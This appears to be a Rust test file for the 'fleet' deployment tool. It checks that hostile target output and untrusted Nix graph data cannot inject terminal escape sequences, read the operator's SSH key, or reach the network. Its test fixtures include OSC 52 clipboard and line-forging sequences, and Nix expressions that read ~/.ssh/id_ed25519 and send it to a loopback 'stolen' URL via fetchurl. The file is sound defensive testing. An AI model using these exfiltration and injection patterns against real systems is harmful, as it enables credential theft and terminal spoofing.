//! What fleet reads from places it does not trust:
//! text a target prints reaches the terminal escaped, and graph data, which
//! may come from a branch someone else pushed, reads nothing of the
//! operator's and cannot make fleet run anything on the operator's machine.

use crate::common;

use std::io::Read;
use std::net::TcpListener;
use std::process::{Command, Output};
use std::sync::{Arc, Mutex};

use camino::Utf8PathBuf;
use common::{scratch, stderr, stdout, text, Bed};

/// OSC 52 (writes the reader's clipboard), a CSI sequence and a `\r` that
/// would hide the line's start under a forged line, as printf writes them.
const HOSTILE_PRINTF: &str = r"x\033]52;c;cHduZWQ=\007\033[2J\rvps-arm | ok";

/// The same text as the terminal must show it.
const HOSTILE_SHOWN: &str = r"x\x1b]52;c;cHduZWQ=\x07\x1b[2J\rvps-arm | ok";

/// Fails if `shown` holds a byte a terminal would act on (anything below a
/// space but `\n` and `\t`, DEL, or a C1 control).
fn assert_inert(shown: &str, what: &str) {
    let active: Vec<char> = shown
        .chars()
        .filter(|&c| (c < ' ' && c != '\n' && c != '\t') || ('\x7f'..='\u{9f}').contains(&c))
        .collect();
    assert!(active.is_empty(), "{what} passes {active:?} to the terminal:\n{shown}");
}

/// A container's health check once printed an escape sequence and a
/// `\r`; they reached the terminal raw, through the job log's tail in the
/// error, in the plain reporter's lines, the summary and `--json`.
#[test]
fn check_output_from_the_target_reaches_the_terminal_escaped() {
    let mut bed = Bed::new("untrusted", "check_output");
    let first = bed.fleet(&["deploy"]);
    assert!(first.status.success(), "{}{}", stdout(&first), stderr(&first));
    bed.fixture
        .set_node_attrs(
            "test-container",
            // Nix reads `\\` as one backslash: printf gets its escapes.
            &format!(
                r#"checks = [ {{ command = [ "sh" "-c" "printf '{}\\n'; printf '%05000d\\n' 7; exit 1" ]; }} ]; checkTimeout = 2;"#,
                HOSTILE_PRINTF.replace('\\', r"\\")
            ),
        )
        .unwrap();
    bed.fixture.set_version("test-container", "2-check_output").unwrap();

    let out = bed.fleet(&["deploy", "--container", "test-container"]);
    let shown = format!("{}{}", stdout(&out), stderr(&out));
    assert_eq!(out.status.code(), Some(1), "{shown}");
    assert!(shown.contains("rolled back"), "{shown}");
    assert_inert(&shown, "deploy");
    assert!(shown.contains(HOSTILE_SHOWN), "the check's output is shown, escaped:\n{shown}");
    // A line of 5,000 characters is reported cut: to 2,000 by the agent, to
    // 300 here, saying how much more there was.
    assert!(shown.contains(&format!("{}... (1700 more bytes)", "0".repeat(300))), "{shown}");
    assert!(!shown.contains(&"0".repeat(301)), "{shown}");

    bed.fixture.set_version("test-container", "3-check_output").unwrap();
    let out = bed.fleet(&["deploy", "--container", "test-container", "--json"]);
    let json = stdout(&out);
    assert_inert(&json, "deploy --json");
    assert_inert(&stderr(&out), "deploy --json's stderr");
    let document: serde_json::Value = serde_json::from_str(&json).expect("the output is JSON");
    let message = document["nodes"][0]["error"]["message"].as_str().expect("an error message");
    assert!(
        message.contains("x\x1b]52;c;cHduZWQ=\x07\x1b[2J\rvps-arm | ok"),
        "JSON keeps the text: {message}"
    );
}

/// `exec` once printed a node's output raw, so a `\r` could forge
/// another node's prefix and an escape sequence reached the terminal.
#[test]
fn exec_output_reaches_the_terminal_escaped() {
    let bed = Bed::new("untrusted", "exec_output");
    let first = bed.fleet(&["deploy"]);
    assert!(first.status.success(), "{}{}", stdout(&first), stderr(&first));
    let out = bed
        .command(&["exec", "--container", "test-container"])
        .args(["--", "printf", &format!("{HOSTILE_PRINTF}\\n")])
        .output()
        .unwrap();
    let shown = stdout(&out);
    assert!(out.status.success(), "{shown}{}", stderr(&out));
    assert_inert(&shown, "exec");
    assert!(shown.contains(&format!("test-container | {HOSTILE_SHOWN}\n")), "{shown}");
    assert!(!shown.lines().any(|line| line.starts_with("vps-arm")), "no forged line: {shown}");
}

/// A loopback listener that records the start of every request it gets and
/// closes each at once (so a fetch fails fast instead of waiting).
fn recording_listener() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let requests = Arc::new(Mutex::new(Vec::new()));
    let recorded = Arc::clone(&requests);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut start = [0; 80];
            let read = stream.read(&mut start).unwrap_or(0);
            recorded.lock().unwrap().push(text(&start[..read]));
        }
    });
    (port, requests)
}

/// A graph file of its own in `dir`, with the testbed-free host `h`.
fn graph(dir: &Utf8PathBuf, name: &str, host: &str) -> Utf8PathBuf {
    std::fs::create_dir_all(dir).unwrap();
    let path = dir.join(format!("{name}.nix"));
    std::fs::write(&path, format!("{{ nodes.h = {{ kind = \"host\"; {host} }}; }}\n")).unwrap();
    path
}

/// `fleet graph --graph GRAPH` with `home` as `HOME` and `NIX_PATH`.
fn fleet_graph(graph: &Utf8PathBuf, home: &Utf8PathBuf) -> Output {
    Command::new(env!("CARGO_BIN_EXE_fleet"))
        .args(["graph", "--graph", graph.as_str()])
        .envs(fleet_testbed::nix_env())
        .env("HOME", home)
        .env("NIX_PATH", format!("home={home}"))
        .output()
        .unwrap()
}

/// A fresh folder for `test` and a home in it whose `~/.ssh/id_ed25519`
/// holds `SECRET-KEY`.
fn fresh_with_home(test: &str) -> (Utf8PathBuf, Utf8PathBuf) {
    let dir = scratch("untrusted", test);
    let _ = std::fs::remove_dir_all(&dir);
    let home = dir.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "SECRET-KEY").unwrap();
    (dir, home)
}

/// Graph data once read the operator's files (`~/.ssh`, through a
/// symlink, through `NIX_PATH`, a copy in the Nix store) and fetched URLs that could carry them. It
/// is evaluated in restricted mode now: each is refused, saying what a graph
/// may read, and nothing reaches the network; its own folder stays readable.
#[test]
fn a_graph_reads_nothing_but_its_own_folder() {
    let (dir, home) = fresh_with_home("graph_reads");
    let graphs = dir.join("repo/nix");
    std::fs::create_dir_all(&graphs).unwrap();
    std::os::unix::fs::symlink(home.join(".ssh/id_ed25519"), graphs.join("key")).unwrap();
    std::fs::write(graphs.join("target.nix"), "\"root@example.org\"\n").unwrap();

    // A secret that made it into the local store.
    let added = Command::new("nix")
        .args([
            "--extra-experimental-features",
            "nix-command",
            "store",
            "add-file",
            home.join(".ssh/id_ed25519").as_str(),
        ])
        .envs(fleet_testbed::nix_env())
        .output()
        .unwrap();
    assert!(added.status.success(), "{}", stderr(&added));
    let in_store = stdout(&added).trim().to_string();
    let (port, requests) = recording_listener();

    // Each reads the key, and uses it only in a way that still evaluates.
    let uses = |key: &str| format!(r#"target = builtins.seq ({key}) (import ./target.nix);"#);
    let url = format!("http://127.0.0.1:{port}/?k=stolen");
    let hash = "0000000000000000000000000000000000000000000000000000";
    let restricted = "forbidden in restricted mode";
    for (name, host, refusal) in [
        ("home", uses("builtins.readFile ~/.ssh/id_ed25519"), restricted),
        ("symlink", uses("builtins.readFile ./key"), restricted),
        (
            "nix-path",
            uses("builtins.readFile <home/.ssh/id_ed25519>"),
            "was not found in the Nix search path",
        ),
        ("store", uses(&format!(r#"builtins.readFile "{in_store}""#)), restricted),
        ("fetchurl", uses(&format!(r#"builtins.fetchurl "{url}""#)), restricted),
        (
            "fetchurl-hash",
            uses(&format!(r#"builtins.fetchurl {{ url = "{url}"; sha256 = "{hash}"; }}"#)),
            restricted,
        ),
        (
            "tarball",
            uses(&format!(r#"builtins.fetchTarball {{ url = "{url}"; sha256 = "{hash}"; }}"#)),
            restricted,
        ),
    ] {
        let out = fleet_graph(&graph(&graphs, name, &host), &home);
        let shown = format!("{}{}", stdout(&out), stderr(&out));
        assert_eq!(out.status.code(), Some(2), "{name}: {shown}");
        assert!(shown.contains(refusal), "{name}: {shown}");
        if refusal == restricted {
            assert!(shown.contains(fleet_nix::GRAPH_MAY_READ), "{name} says what a graph may read: {shown}");
        }
        assert!(!shown.contains("SECRET-KEY"), "{name}: {shown}");
    }
    assert!(requests.lock().unwrap().is_empty(), "a graph reached the network: {requests:?}");

    let out = fleet_graph(&graph(&graphs, "own-folder", "target = import ./target.nix;"), &home);
    assert!(out.status.success(), "a graph reads its own folder: {}", stderr(&out));
}

/// `target = "local"` in graph data once made a pushed branch's
/// `command` checks run on the operator's machine. The graph may not say it;
/// the command line still may.
#[test]
fn local_is_a_target_only_on_the_command_line() {
    let dir = scratch("untrusted", "local_target");
    let ran = dir.join("check-ran");
    let check = format!(r#"checks = [ {{ command = [ "touch" "{ran}" ]; }} ];"#);
    let local = graph(&dir, "local", &format!(r#"target = "local"; {check}"#));
    for command in ["graph", "status", "deploy"] {
        let out = Command::new(env!("CARGO_BIN_EXE_fleet"))
            .args([command, "--graph", local.as_str()])
            .envs(fleet_testbed::nix_env())
            .output()
            .unwrap();
        let shown = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{command}: {shown}");
        assert!(
            shown.contains("error: node `h` is not valid: `target = \"local\"` would run")
                && shown.contains("pass `--target local` on the command line"),
            "{command}: {shown}"
        );
    }
    assert!(!ran.exists(), "no check ran here");

    let remote = graph(&dir, "remote", r#"target = "root@example.org";"#);
    let out = Command::new(env!("CARGO_BIN_EXE_fleet"))
        .args(["exec", "--graph", remote.as_str(), "--target", "local", "--", "echo", "here"])
        .envs(fleet_testbed::nix_env())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    assert!(stdout(&out).starts_with("h | here\n"), "{}", stdout(&out));
}

/// An error message carries what the graph said (here an
/// unknown kind, which the message quotes); it reaches the terminal escaped on
/// the way out, as every error does.
#[test]
fn an_error_reaches_the_terminal_escaped() {
    let dir = scratch("untrusted", "error_text");
    let hostile =
        graph(&dir, "kind", "}; nodes.c = { kind = \"x\x1b]52;c;cHduZWQ=\x07\\rok\"; host = \"h\";");
    let out = Command::new(env!("CARGO_BIN_EXE_fleet"))
        .args(["status", "--graph", hostile.as_str()])
        .envs(fleet_testbed::nix_env())
        .output()
        .unwrap();
    let shown = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{shown}");
    assert_inert(&shown, "the error");
    assert!(shown.contains(r#"has kind "x\x1b]52;c;cHduZWQ=\x07\rok""#), "{shown}");
}

/// When a node's evaluation failed, the check of the nix version
/// opened the flake with `getFlake` in impure mode, which ran the flake's
/// `outputs` with the operator's files and network in reach: a flake made to
/// fail its pure evaluation got `~/.ssh` sent out. It fetches only the
/// locked nixpkgs input now, in pure mode, and runs none of the flake's code.
#[test]
fn a_failed_evaluation_does_not_open_the_flake_impurely() {
    let (dir, home) = fresh_with_home("impure_version_check");
    let (port, requests) = recording_listener();
    let flake = dir.join("flake");
    std::fs::create_dir_all(flake.join("nix")).unwrap();
    std::fs::write(
        flake.join("nix/fleet.nix"),
        "{ nodes.h = { kind = \"host\"; target = \"root@127.0.0.1:9\"; }; }\n",
    )
    .unwrap();
    std::fs::write(
        flake.join("flake.nix"),
        format!(
            "{{ outputs = _: builtins.seq (builtins.fetchurl \"http://127.0.0.1:{port}/?k=${{builtins.readFile ~/.ssh/id_ed25519}}\")\n\
             {{ nixosConfigurations.h = throw \"unreachable\"; }}; }}\n"
        ),
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_fleet"))
        .args(["build", "--flake", &format!("path:{flake}")])
        .envs(fleet_testbed::nix_env())
        .env("HOME", &home)
        .output()
        .unwrap();
    let shown = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{shown}");
    assert!(shown.contains("forbidden in pure eval mode"), "{shown}");
    let requests = requests.lock().unwrap();
    assert!(requests.is_empty(), "the flake reached the network: {requests:?}");
}
